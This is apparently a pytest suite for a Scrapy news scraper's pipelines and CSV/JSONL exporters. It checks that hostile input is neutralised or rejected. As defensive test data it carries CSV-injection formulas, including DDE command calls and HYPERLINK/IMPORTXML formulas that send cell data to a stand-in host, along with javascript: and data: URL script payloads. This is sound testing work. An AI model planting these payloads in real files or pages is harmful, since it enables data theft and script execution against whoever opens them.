"""Hostile and broken input through normalize -> validate -> exporters, read back from bytes.

Each hostile value goes into an otherwise valid item; the test runs the real pipelines and
both exporters, then reads the CSV and JSONL back and checks what a user gets: no crash, no
formula a spreadsheet would run, no broken row, nothing lost in JSONL, the documented CSV
transformations only (``'`` prefix, list join, truncation to 32,767 characters listed in
``truncated_fields``), a Reject with a reason where the value is unusable.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import asdict, replace
from typing import Any

import pytest
from scrapy.utils.test import get_crawler

from newsspider.exporters import (
    EXCEL_CELL_LIMIT,
    LIST_SEPARATOR,
    TRUNCATED_COLUMN,
    JsonLinesExporter,
    SpreadsheetCsvItemExporter,
)
from newsspider.items import Article, PopularEntry, Reject, field_names
from newsspider.middlewares import redact_credentials, strip_session_ids
from newsspider.pipelines.normalize import NormalizePipeline
from newsspider.pipelines.validate import ValidatePipeline

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")

# OWASP "CSV Injection" payloads, plus the separator / quote tricks that try to break out of
# a cell, and white space in front of the trigger: (payload, the text NormalizePipeline keeps:
# leading white space and control characters dropped, a line break inside is one space)
FORMULAS = [
    ("=1+1", "=1+1"),
    ("+1+1", "+1+1"),
    ("-1+1", "-1+1"),
    ("@SUM(1,1)", "@SUM(1,1)"),
    ("\t=1+1", "=1+1"),
    ("\r=1+1", "=1+1"),
    ("\n=1+1", "=1+1"),
    (" =1+1", "=1+1"),
    ("\u00a0=1+1", "=1+1"),
    ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    (
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ),
    (
        '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
        '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    ),
    ("-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    ('","=1+1', '","=1+1'),  # try to close the quoted cell and start a new one
    ('";=1+1', '";=1+1'),
    ("',=1+1", "',=1+1"),
    ('a"\r\n"=1+1', 'a" "=1+1'),  # try to end the row
    ("=1+1\x00", "=1+1"),
]
# the break-out attempts: they start with a quote or a letter, so a spreadsheet shows them as
# text; the exporter must keep them as one cell, unchanged (no prefix)
NOT_FORMULAS = {'","=1+1', '";=1+1', "',=1+1", 'a"\r\n"=1+1'}
CONTROL = [
    "nul\x00in the middle",
    "bell\x07 and escape\x1b[31m red",
    "c1 control\x85 next line",
    "lone surrogate \ud800 high",
    "lone surrogate \udfff low",
    "line\u2028separator",
    "para\u2029separator",
    "right-to-left \u202eoverride\u202c end",
    "zero\u200bwidth",
    "bom \ufeff inside",
    "embedded \"quotes\" and 'apostrophes'",
    "embedded\nnewline\r\nand CR\rhere",
]
LONG = [32_766, 32_767, 32_768, 100_000, 1_000_000]
BIG_IDS = ["1234567890123456", "12345678901234567", "123456789012345678901"[:20], "0" * 16]
BAD_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(document.cookie)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "mailto:someone@example.com",
]
IMPOSSIBLE_DATES = [
    "2026-02-30T10:00:00+09:00",
    "2026-13-01T00:00:00+00:00",
    "2026-02-21T25:00:00+09:00",
    "2026-02-21T10:61:00+09:00",
    "0000-01-01T00:00:00+00:00",
    "2026-02-21T10:00:00+25:00",
    "yesterday",
    "",
]

BAD_INPUTS_TRIED = (
    len(FORMULAS) + len(CONTROL) + len(LONG) + len(BIG_IDS) + len(BAD_URLS) + len(IMPOSSIBLE_DATES)
)


@pytest.fixture(scope="module")
def crawler() -> Any:
    return get_crawler()


def good_article(**overrides: Any) -> Article:
    article = Article(
        run_id="r1",
        crawled_at="2026-02-21T00:05:00+00:00",
        url="https://news1global.com/etc/article/1007",
        article_id="1007",
        site="news1global",
        section="etc",
        headline="Seoul's oldest bakery marks 80 years",
        body="First paragraph.\n\nSecond paragraph.",
        authors=["Kim Min-ji"],
        published_at="2026-02-21T09:05:00+09:00",
        published_at_raw="2026-02-21 09:05 KST",
        tags=["Food", "Seoul"],
        language="en",
    )
    return replace(article, **overrides)


def through_pipelines(crawler: Any, item: Any) -> Any:
    item = NormalizePipeline(crawler).process_item(item)
    return ValidatePipeline(crawler).process_item(item)


def export(items: list[Any], item_class: type) -> tuple[bytes, bytes]:
    csv_buf, jsonl_buf = io.BytesIO(), io.BytesIO()
    csv_exp = SpreadsheetCsvItemExporter(csv_buf, fields_to_export=field_names(item_class))
    jsonl_exp = JsonLinesExporter(jsonl_buf)
    for exporter in (csv_exp, jsonl_exp):
        exporter.start_exporting()
        for item in items:
            exporter.export_item(item)
        exporter.finish_exporting()
    return csv_buf.getvalue(), jsonl_buf.getvalue()


def read_csv(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def read_jsonl(data: bytes) -> list[dict[str, Any]]:
    # bytes-level split: U+2028 inside a value is not a line break (str.splitlines would be)
    return [json.loads(line) for line in data.split(b"\n") if line]


def expected_cell(value: Any) -> tuple[str, bool]:
    """The documented CSV transformation, written independently of the exporter."""
    if value is None:
        return "", False
    if isinstance(value, bool):
        text = "true" if value else "false"
    elif isinstance(value, int):
        return str(value), False
    elif isinstance(value, list):
        text = LIST_SEPARATOR.join(value)
    else:
        text = str(value)
    if text[:1] in TRIGGERS or text.lstrip(" \u00a0")[:1] in TRIGGERS:
        text = "'" + text
    if len(text) > EXCEL_CELL_LIMIT:
        text = text[:EXCEL_CELL_LIMIT].removesuffix("\r")
        return text, True
    return text, False


def assert_round_trip(item: Any, item_class: type) -> dict[str, str]:
    csv_data, jsonl_data = export([item], item_class)
    assert csv_data.count(b"\r\n") >= 2  # header + the row (cells may hold more)
    (row,) = read_csv(csv_data)
    (line,) = read_jsonl(jsonl_data)
    assert jsonl_data.count(b"\n") == 1
    assert line == asdict(item)  # JSONL: everything, exactly
    truncated = []
    for name in field_names(item_class):
        cell, cut = expected_cell(getattr(item, name))
        assert row[name] == cell, name
        if cut:
            truncated.append(name)
        assert row[name][:1] not in TRIGGERS, f"{name} starts with a formula trigger"
        assert row[name].lstrip(" \u00a0")[:1] not in TRIGGERS, f"{name}: trigger after space"
    assert row[TRUNCATED_COLUMN] == LIST_SEPARATOR.join(truncated)
    return row


@pytest.mark.parametrize(("payload", "cleaned"), FORMULAS)
def test_formula_payloads_are_neutralized_in_every_text_field(
    crawler: Any, payload: str, cleaned: str
) -> None:
    item = through_pipelines(
        crawler, good_article(headline=payload, description=payload, tags=[payload, "x"])
    )
    assert isinstance(item, Article)
    # the data keeps the text (JSONL has no prefix) ...
    assert (item.headline, item.description, item.tags) == (cleaned, cleaned, [cleaned, "x"])
    row = assert_round_trip(item, Article)
    # ... and the spreadsheet cell is that text, behind a ' exactly where it is a formula
    cell = "'" + cleaned if payload not in NOT_FORMULAS else cleaned
    assert (row["headline"], row["description"]) == (cell, cell)
    assert row["tags"] == cell + LIST_SEPARATOR + "x"
    (line,) = read_jsonl(export([item], Article)[1])
    assert (line["headline"], line["tags"]) == (cleaned, [cleaned, "x"])


@pytest.mark.parametrize(("payload", "_cleaned"), FORMULAS)
def test_formula_payloads_survive_the_exporter_raw(payload: str, _cleaned: str) -> None:
    """Even without the normalizer (a Reject's copy, a future field) nothing breaks out."""
    entry = PopularEntry(run_id="r", list_name=payload, rank=1, headline=payload)
    csv_data, _ = export([entry], PopularEntry)
    (row,) = read_csv(csv_data)
    cell = payload if payload in NOT_FORMULAS else "'" + payload
    assert (row["headline"], row["list_name"]) == (cell, cell)
    assert list(row) == [*field_names(PopularEntry), TRUNCATED_COLUMN]  # no extra column


@pytest.mark.parametrize("payload", CONTROL)
def test_control_characters_are_cleaned_and_round_trip(crawler: Any, payload: str) -> None:
    item = through_pipelines(crawler, good_article(headline=payload, body=payload + "\n\nok"))
    assert isinstance(item, Article)
    for text in (item.headline, item.body):
        assert text is not None
        assert not any(ch in text for ch in "\x00\x07\x1b\x85\u202e\u200b\ufeff\u2028\u2029")
        assert not any("\ud800" <= ch <= "\udfff" for ch in text)
    assert "\n" not in (item.headline or "")
    assert_round_trip(item, Article)


@pytest.mark.parametrize("payload", CONTROL)
def test_raw_control_characters_never_break_a_row(payload: str) -> None:
    entry = PopularEntry(run_id="r", list_name="L", rank=1, headline=payload)
    csv_data, jsonl_data = export([entry, entry], PopularEntry)
    assert len(read_csv(csv_data)) == 2
    assert len(read_jsonl(jsonl_data)) == 2  # one line per item, whatever the text holds


@pytest.mark.parametrize("length", LONG)
def test_long_cells_are_cut_for_spreadsheets_and_kept_whole_in_jsonl(
    crawler: Any, length: int
) -> None:
    body = ("word " * (length // 5 + 1))[:length].strip()
    item = through_pipelines(crawler, good_article(body=body))
    assert isinstance(item, Article)
    row = assert_round_trip(item, Article)
    assert len(row["body"]) <= EXCEL_CELL_LIMIT
    assert ("body" in row[TRUNCATED_COLUMN]) == (len(item.body or "") > EXCEL_CELL_LIMIT)


@pytest.mark.parametrize("digits", BIG_IDS)
def test_long_numeric_ids_keep_every_digit(crawler: Any, digits: str) -> None:
    url = f"https://news1global.com/etc/article/{digits}"
    item = through_pipelines(crawler, good_article(article_id=digits, url=url))
    assert isinstance(item, Article)
    row = assert_round_trip(item, Article)
    assert row["article_id"] == digits  # text, not a float that lost its last digits
    big = PopularEntry(run_id="r", list_name="L", rank=10**19 + 1, headline="h")
    (row,) = read_csv(export([big], PopularEntry)[0])
    assert row["rank"] == str(10**19 + 1)


@pytest.mark.parametrize("url", BAD_URLS)
def test_script_and_data_urls_never_survive(crawler: Any, url: str) -> None:
    item = through_pipelines(
        crawler, good_article(url=url, image_url=url, related_urls=[url, "https://ok.example/"])
    )
    assert isinstance(item, Reject)  # the article's own URL is unusable
    assert "missing_url" in item.reasons
    kept = item.item
    assert kept["image_url"] is None
    assert kept["related_urls"] == ["https://ok.example/"]
    (line,) = read_jsonl(export([item], Reject)[1])  # rejects go to JSONL only
    assert line["reasons"] == item.reasons


@pytest.mark.parametrize("value", IMPOSSIBLE_DATES)
def test_impossible_dates_cost_the_date_not_the_article(crawler: Any, value: str) -> None:
    stat = "newsspider/validate/warning/bad_published_at"
    before = crawler.stats.get_value(stat, 0)
    item = through_pipelines(
        crawler, good_article(published_at=value or None, published_at_raw=None)
    )
    assert isinstance(item, Article)  # a date never costs the row
    if not value:
        assert item.published_at is None and item.published_at_raw is None
        return
    # the group moves whole: no value, no flags, the text kept as the raw value
    assert (item.published_at, item.published_at_tz_assumed, item.published_at_source) == (
        None,
        None,
        None,
    )
    assert item.published_at_raw == value
    assert crawler.stats.get_value(stat) == before + 1
    (row,) = read_csv(export([item], Article)[0])
    assert row["published_at"] == "" and row["published_at_raw"] == value


@pytest.mark.parametrize("raw", ["February 30, 2026", "2026-02-30", "31/31/2026", "\x00", "9" * 40])
def test_date_parser_returns_nothing_for_impossible_dates(raw: str) -> None:
    from newsspider.dates import parse_date

    parsed = parse_date(raw)
    assert parsed.value is None
    assert parsed.raw == (raw.strip() or None)


@pytest.mark.parametrize(
    ("field_name", "value", "reason"),
    [
        ("headline", 12345, "bad_type_headline"),
        ("headline", b"bytes headline", "bad_type_headline"),
        ("authors", "Kim Min-ji", "bad_type_authors"),
        ("authors", [1, 2], "bad_type_authors"),
        ("published_at_tz_assumed", "yes", "bad_type_published_at_tz_assumed"),
        ("is_paywalled", "yes", "bad_type_is_paywalled"),
        ("tags", {"a": 1}, "bad_type_tags"),
        ("article_id", None, "missing_article_id"),
        ("headline", None, "missing_headline"),
        ("url", None, "missing_url"),
    ],
)
def test_missing_and_wrong_typed_fields_become_rejects(
    crawler: Any, field_name: str, value: Any, reason: str
) -> None:
    item = through_pipelines(crawler, good_article(**{field_name: value}))
    assert isinstance(item, Reject), item
    assert reason in item.reasons
    # the Reject itself must export, whatever odd value it carries
    (line,) = read_jsonl(export([item], Reject)[1])
    assert reason in line["reasons"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see https://alice:s3cret@example.com/x", "see https://***@example.com/x"),
        ("ftp://u@h/", "ftp://***@h/"),
        ("no credentials http://example.com/a@b", "no credentials http://example.com/a@b"),
        ("{'HTTPAUTH_PASS': 'hunter2', 'X': 1}", "{'HTTPAUTH_PASS': '***', 'X': 1}"),
    ],
)
def test_credentials_are_redacted_from_log_text(text: str, expected: str) -> None:
    assert redact_credentials(text) == expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://a/x/article/1.html;jsessionid=ABC", "http://a/x/article/1.html"),
        ("http://a/x?sid=1&page=2", "http://a/x?page=2"),
        ("http://a/x?PHPSESSID=9&q=1", "http://a/x?q=1"),
        ("http://a/x?page=2", "http://a/x?page=2"),
    ],
)
def test_session_ids_are_stripped(url: str, expected: str) -> None:
    assert strip_session_ids(url) == expected


def test_bad_input_count() -> None:
    assert BAD_INPUTS_TRIED >= 50
